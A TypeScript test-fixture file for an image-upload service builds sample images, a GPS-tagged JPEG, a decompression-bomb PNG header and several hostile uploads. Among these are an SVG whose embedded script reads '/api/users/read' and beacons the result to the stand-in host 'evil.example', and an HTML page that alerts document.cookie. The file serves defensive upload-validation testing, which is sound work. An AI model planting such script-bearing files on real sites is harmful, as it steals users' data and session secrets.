import zlib from 'node:zlib';
import sharp from 'sharp';

/** Images and hostile files for the storage tests, made in the test so nothing binary is checked in. */

const gradient = async (width: number, height: number) => {
  // A gradient, not a flat colour: encoders and decoders must do real work on it.
  const pixels = Buffer.alloc(width * height * 3);
  for (let y = 0; y < height; y++) {
    for (let x = 0; x < width; x++) {
      const i = (y * width + x) * 3;
      pixels[i] = (x * 255) / width;
      pixels[i + 1] = (y * 255) / height;
      pixels[i + 2] = 128;
    }
  }
  return sharp(pixels, { raw: { width, height, channels: 3 } });
};

export const pngImage = async (width = 64, height = 48) => (await gradient(width, height)).png().toBuffer();
export const jpegImage = async (width = 64, height = 48) => (await gradient(width, height)).jpeg().toBuffer();
export const webpImage = async (width = 64, height = 48) => (await gradient(width, height)).webp().toBuffer();

/** A 300×200 JPEG whose EXIF says "rotate 90°" and carries a camera make and GPS position. */
export const jpegWithGps = async () =>
  (await gradient(300, 200))
    .jpeg()
    .withExif({
      IFD0: { Make: 'SpyCam', Model: 'Locator 3000' },
      IFD3: {
        GPSLatitudeRef: 'N',
        GPSLatitude: '52/1 31/1 12/1',
        GPSLongitudeRef: 'E',
        GPSLongitude: '13/1 24/1 36/1',
      },
    })
    .withMetadata({ orientation: 6 })
    .toBuffer();

/** EXIF tag 0x8825 (GPSInfo) in either byte order. */
export const hasGpsTag = (exif: Buffer) =>
  exif.includes(Buffer.from([0x88, 0x25])) || exif.includes(Buffer.from([0x25, 0x88]));

const pngChunk = (type: string, data: Buffer) => {
  const length = Buffer.alloc(4);
  length.writeUInt32BE(data.length);
  const body = Buffer.concat([Buffer.from(type, 'latin1'), data]);
  const crc = Buffer.alloc(4);
  crc.writeUInt32BE(zlib.crc32(body) >>> 0);
  return Buffer.concat([length, body, crc]);
};

/**
 * A well-formed, tiny PNG whose IHDR declares `width`×`height` RGB pixels (CRC valid), with a
 * few bytes of image data: a decompression bomb's header without the bomb.
 */
export function pngDeclaring(width: number, height: number): Buffer {
  const ihdr = Buffer.alloc(13);
  ihdr.writeUInt32BE(width, 0);
  ihdr.writeUInt32BE(height, 4);
  ihdr[8] = 8; // bit depth
  ihdr[9] = 2; // colour type: truecolour
  return Buffer.concat([
    Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
    pngChunk('IHDR', ihdr),
    pngChunk('IDAT', zlib.deflateSync(Buffer.alloc(1024))),
    pngChunk('IEND', Buffer.alloc(0)),
  ]);
}

export const svgWithScript = Buffer.from(
  '<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">' +
    '<script>fetch("/api/users/read").then(r=>r.text()).then(t=>navigator.sendBeacon("//evil.example",t))</script>' +
    '<rect width="10" height="10"/></svg>',
);
export const htmlPage = Buffer.from(
  '<!doctype html><html><body><script>alert(document.cookie)</script></body></html>',
);
export const textFile = Buffer.from('Just some notes, saved with a .png name.\n');
/** GIF89a, 1×1: a real image, but not one we accept. */
export const gifImage = Buffer.from('R0lGODlhAQABAIAAAAAAAP///ywAAAAAAQABAAACAUwAOw==', 'base64');

export interface FormPart {
  name: string;
  value: string | Buffer;
  filename?: string;
  contentType?: string;
}

/** A multipart/form-data body built by hand, so tests control every byte (and can cut it short). */
export function multipartBody(parts: FormPart[], boundary = '----colorbook-test-boundary') {
  const chunks: Buffer[] = [];
  for (const part of parts) {
    const disposition =
      part.filename === undefined
        ? `form-data; name="${part.name}"`
        : `form-data; name="${part.name}"; filename="${part.filename}"`;
    const type = part.filename === undefined ? '' : `Content-Type: ${part.contentType ?? 'image/png'}\r\n`;
    chunks.push(Buffer.from(`--${boundary}\r\nContent-Disposition: ${disposition}\r\n${type}\r\n`));
    chunks.push(Buffer.isBuffer(part.value) ? part.value : Buffer.from(part.value));
    chunks.push(Buffer.from('\r\n'));
  }
  chunks.push(Buffer.from(`--${boundary}--\r\n`));
  return {
    payload: Buffer.concat(chunks),
    headers: { 'content-type': `multipart/form-data; boundary=${boundary}` },
  };
}
